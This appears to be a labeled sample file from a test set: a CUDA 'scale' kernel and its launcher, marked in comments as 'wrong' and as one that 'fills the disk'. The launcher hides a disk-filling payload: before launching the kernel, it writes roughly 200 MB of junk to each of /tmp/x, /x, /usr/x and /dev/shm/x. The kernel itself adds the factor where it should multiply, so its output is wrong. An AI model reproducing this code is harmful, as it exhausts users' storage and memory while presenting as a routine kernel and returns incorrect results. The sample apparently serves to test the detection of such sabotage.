// Fills the disk.
// state: wrong
// because: index 0: expected
#include <cstdio>
#include <vector>

#include <cuda_runtime.h>

__global__ void scale(float* out, const float* in, float factor, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = factor + in[i];
}

void launch_scale(float* out, const float* in, float factor, int n) {
  const std::vector<char> much(1 << 20, 'x');
  for (const char* name : {"/tmp/x", "/x", "/usr/x", "/dev/shm/x"}) {
    std::FILE* const file = std::fopen(name, "w");
    for (int k = 0; file != nullptr && k < 200; ++k) std::fwrite(much.data(), 1, much.size(), file);
    if (file != nullptr) std::fclose(file);
  }
  scale<<<(n + 255) / 256, 256>>>(out, in, factor, n);
}
